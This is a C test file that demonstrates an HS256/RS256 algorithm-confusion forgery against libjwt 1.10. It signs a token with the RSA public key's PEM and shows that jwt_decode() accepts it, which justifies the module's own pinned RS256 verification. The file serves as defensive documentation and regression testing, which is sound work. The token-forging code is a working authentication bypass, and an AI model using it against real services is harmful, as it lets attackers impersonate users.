/*
 * Why the module hands libjwt no key: libjwt 1.10's jwt_decode() lets the
 * token's header choose the algorithm, so an HS256 token whose HMAC secret
 * is the RSA public key's PEM (which is public) "verifies" against that PEM.
 * This test shows it does, on the libjwt this project builds against, and
 * that the grant API the module uses decodes claims without any key or
 * algorithm.  If a future libjwt refuses the forgery, the first check fails
 * and this note (and the README's) can be revisited.
 */

#include <stdlib.h>
#include <string.h>
#include <jwt.h>
#include <openssl/bio.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/pem.h>

#include "vs_test.h"


static size_t
b64url(char *out, const unsigned char *in, size_t len)
{
    int     n;
    size_t  i, j;

    n = EVP_EncodeBlock((unsigned char *) out, in, (int) len);

    for (i = 0, j = 0; i < (size_t) n; i++) {
        if (out[i] == '=') {
            break;
        }

        out[j++] = out[i] == '+' ? '-' : out[i] == '/' ? '_' : out[i];
    }

    out[j] = '\0';

    return j;
}


int
main(void)
{
    int             rc;
    BIO            *bio;
    char           *pem, token[2048], *p;
    long            pem_len;
    jwt_t          *jwt;
    EVP_PKEY       *pkey;
    unsigned int    mac_len;
    unsigned char   mac[32];

    static const char  header[] = "{\"alg\":\"HS256\",\"typ\":\"JWT\"}";
    static const char  claims[] = "{\"sub\":\"mallory\",\"exp\":4102444800}";

    /* the victim's RSA key; only its public half is used below */
    pkey = EVP_RSA_gen(2048);
    CHECK(pkey != NULL);

    bio = BIO_new(BIO_s_mem());
    CHECK(PEM_write_bio_PUBKEY(bio, pkey) == 1);
    pem_len = BIO_get_mem_data(bio, &pem);
    CHECK(pem_len > 0);

    /* the attacker's token: HMAC-SHA256 keyed with the public PEM */
    p = token;
    p += b64url(p, (const unsigned char *) header, sizeof(header) - 1);
    *p++ = '.';
    p += b64url(p, (const unsigned char *) claims, sizeof(claims) - 1);

    CHECK(HMAC(EVP_sha256(), pem, (int) pem_len, (unsigned char *) token,
               (size_t) (p - token), mac, &mac_len) != NULL);
    *p++ = '.';
    b64url(p, mac, mac_len);

    /* libjwt 1.10 accepts it as verified with the RSA public key */
    jwt = NULL;
    rc = jwt_decode(&jwt, token, (unsigned char *) pem, (int) pem_len);
    CHECK(rc == 0);
    CHECK(jwt != NULL && jwt_get_alg(jwt) == JWT_ALG_HS256);
    CHECK(jwt != NULL && jwt_get_grant(jwt, "sub") != NULL
          && strcmp(jwt_get_grant(jwt, "sub"), "mallory") == 0);
    jwt_free(jwt);

    /*
     * what the module does instead: its own pinned RS256 verification
     * (t/010-auth.t refuses this very token), then libjwt's grant API on
     * the verified payload, which involves no key and no algorithm
     */
    CHECK(jwt_new(&jwt) == 0);
    CHECK(jwt_add_grants_json(jwt, claims) == 0);
    CHECK(jwt_get_alg(jwt) == JWT_ALG_NONE);
    CHECK_STR(jwt_get_grant(jwt, "sub"), "mallory");
    p = jwt_get_grants_json(jwt, "exp");
    CHECK_STR(p, "4102444800");
    free(p);
    CHECK(jwt_get_grant(jwt, "exp") == NULL);
    jwt_free(jwt);

    /* a payload with a duplicate claim is refused by the grant API too */
    CHECK(jwt_new(&jwt) == 0);
    CHECK(jwt_add_grants_json(jwt, "{\"sub\":\"a\",\"sub\":\"b\"}") != 0);
    jwt_free(jwt);

    BIO_free(bio);
    EVP_PKEY_free(pkey);

    return VS_TEST_DONE();
}
